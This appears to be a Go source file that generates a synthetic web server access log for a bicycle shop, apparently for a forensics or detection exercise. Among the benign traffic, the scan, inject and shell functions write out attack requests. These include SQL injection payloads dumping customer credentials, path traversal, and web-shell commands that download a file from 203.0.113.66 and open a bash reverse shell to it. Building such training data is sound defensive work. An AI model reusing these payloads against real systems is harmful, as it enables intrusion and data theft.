package demo

import (
	"fmt"
	"time"
)

// accessLog is the access log of the shop on web1, in combined format.
func accessLog(n night) []byte {
	w := &webJournal{newJournal(n, 2)}
	w.shoppers()
	w.robots()
	w.scan()
	w.inject()
	w.shell()
	return w.lines()
}

type webJournal struct{ *journal }

// request is one line of the log.
type request struct {
	addr, method, target string
	status, size         int
	referer, agent       string
}

func (w *webJournal) log(t time.Time, r request) {
	if r.referer == "" {
		r.referer = "-"
	}
	w.add(t, `%s - - [%s] "%s %s HTTP/1.1" %d %d "%s" "%s"`, r.addr, t.Format("02/Jan/2006:15:04:05 -0700"), r.method, r.target, r.status, r.size, r.referer, r.agent)
}

var browsers = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.1 Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.1 Mobile/15E148 Safari/604.1",
}

// shoppers are people who look at bicycles, fewer and fewer as the night goes on.
func (w *webJournal) shoppers() {
	pages := []string{"/", "/bikes.php", "/bikes.php?id=%d", "/bikes.php?id=%d&colour=red", "/search?q=city+bike", "/search?q=helmet&sort=price", "/cart", "/contact", "/news/autumn-sale"}
	for range 230 {
		// The square of a chance is small more often than not: most come in the evening.
		x := w.Float64()
		t := w.dusk().Add(time.Duration(x * x * float64(w.dawn().Sub(w.dusk())))).Truncate(time.Second)
		addr, agent := w.customer(), browsers[w.IntN(len(browsers))]
		referer := "https://www.bikes.example.com/"
		for range 2 + w.IntN(5) {
			target := pages[w.IntN(len(pages))]
			if n := len(target); n > 2 && target[n-2:] == "%d" || n > 14 && target[10:14] == "?id=" {
				target = fmt.Sprintf(target, 100+w.IntN(80))
			}
			w.log(t, request{addr, "GET", target, 200, 4000 + w.IntN(30000), referer, agent})
			w.log(t.Add(time.Second), request{addr, "GET", fmt.Sprintf("/img/bike-%d.jpg", 100+w.IntN(80)), 200, 20000 + w.IntN(90000), "https://www.bikes.example.com" + target, agent})
			t = t.Add(time.Duration(8+w.IntN(50)) * time.Second)
		}
		if w.IntN(6) == 0 {
			w.log(t, request{addr, "POST", "/cart", 302, 0, referer, agent})
			w.log(t.Add(9*time.Second), request{addr, "POST", "/checkout", 303, 0, referer, agent})
		}
		if w.IntN(9) == 0 {
			w.log(t.Add(3*time.Second), request{addr, "GET", "/img/old-logo.png", 404, 162, referer, agent})
		}
	}
}

// robots are search engines, monitoring and the single knocks that every site hears.
func (w *webJournal) robots() {
	for t := w.dusk(); t.Before(w.dawn()); t = t.Add(5 * time.Minute) {
		w.log(w.some(t), request{"198.51.100.9", "GET", "/health", 200, 2, "", "uptime-check/2.1 (+https://status.example.com)"})
	}
	for i := range 60 {
		w.log(w.whenever(w.dusk(), w.dawn()), request{"192.0.2.77", "GET", fmt.Sprintf("/bikes.php?id=%d", 100+i), 200, 9000 + w.IntN(900), "", "ExampleBot/1.0 (+https://search.example.net/bot)"})
	}
	for range 20 {
		w.log(w.whenever(w.dusk(), w.dawn()), request{fmt.Sprintf("203.0.113.%d", 100+w.IntN(100)), "GET", w.pick("/wp-login.php", "/robots.txt", "/admin/", "/boaform/admin/formLogin"), 404, 162, "", "Mozilla/5.0 zgrab/0.x"})
	}
}

// scan is the intruder who looks what is there.
func (w *webJournal) scan() {
	agent := "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)"
	t := w.at("22:50:03")
	for i := range 130 {
		t = t.Add(time.Duration(1+w.IntN(2)) * time.Second)
		target := fmt.Sprintf("/%s%s%d/", w.pick("old", "backup", "admin", "test", "dev", "cgi-bin", "include"), w.pick("", "-", "_"), i)
		w.log(t, request{intruder, "GET", target, 404, 162, "", agent})
	}
	t = w.at("22:58:10")
	for _, f := range []struct {
		target string
		status int
	}{
		{"/.git/config", 403},
		{"/.git/HEAD", 403},
		{"/.aws/credentials", 404},
		{"/wp-config.php.bak", 404},
		{"/phpinfo.php", 404},
		{"/backup.zip", 404},
		{"/.env", 200},
	} {
		t = t.Add(2 * time.Second)
		size := 162
		if f.status == 200 {
			size = 1187
		}
		w.log(t, request{intruder, "GET", f.target, f.status, size, "", "curl/8.5.0"})
	}
}

// inject is the intruder who tries the parameters.
func (w *webJournal) inject() {
	agent := "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
	t := w.at("23:06:20")
	for i, q := range []string{
		"?id=101%27", "?id=101%27%20OR%20%271%27=%271", "?id=101%20AND%20SLEEP(5)--%20-",
		"?id=101%20ORDER%20BY%2012--%20-", "?id=-1%20UNION%20SELECT%201,2,3,4--%20-",
		"?id=-1%20UNION%20SELECT%201,table_name,3,4%20FROM%20information_schema.tables--%20-",
		"?id=-1%20UNION%20SELECT%201,email,password,4%20FROM%20customers%20LIMIT%20500--%20-",
		"?id=../../../../etc/passwd", "?page=php://filter/convert.base64-encode/resource=index",
	} {
		t = t.Add(time.Duration(11+w.IntN(25)) * time.Second)
		status, size := 200, 5100+w.IntN(90)
		if i == 0 {
			status, size = 500, 611
		}
		if i == 6 {
			size = 48211
		}
		w.log(t, request{intruder, "GET", "/bikes.php" + q, status, size, "", agent})
	}
}

// shell is the web shell that comes in as a picture of a customer.
func (w *webJournal) shell() {
	agent := "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
	w.log(w.at("23:18:40"), request{intruder, "POST", "/account/register", 302, 0, "", agent})
	w.log(w.at("23:20:12"), request{intruder, "POST", "/account/avatar.php", 302, 0, "https://www.bikes.example.com/account", agent})
	w.log(w.at("23:20:31"), request{intruder, "GET", "/uploads/avatars/a7f3.php", 200, 17, "", agent})
	for _, c := range []struct{ clock, command string }{
		{"23:20:55", "id"},
		{"23:21:03", "uname%20-a"},
		{"23:21:20", "cat%20/etc/passwd"},
		{"23:22:02", "ls%20-la%20/srv/shop"},
		{"23:23:15", "curl%20-o%20/dev/shm/kw%20http://203.0.113.66/kw"},
		{"23:24:40", "bash%20-c%20%27bash%20-i%20%3E%26%20/dev/tcp/203.0.113.66/4444%200%3E%261%27"},
	} {
		w.log(w.at(c.clock), request{intruder, "GET", "/uploads/avatars/a7f3.php?c=" + c.command, 200, 20 + w.IntN(2500), "", agent})
	}
}
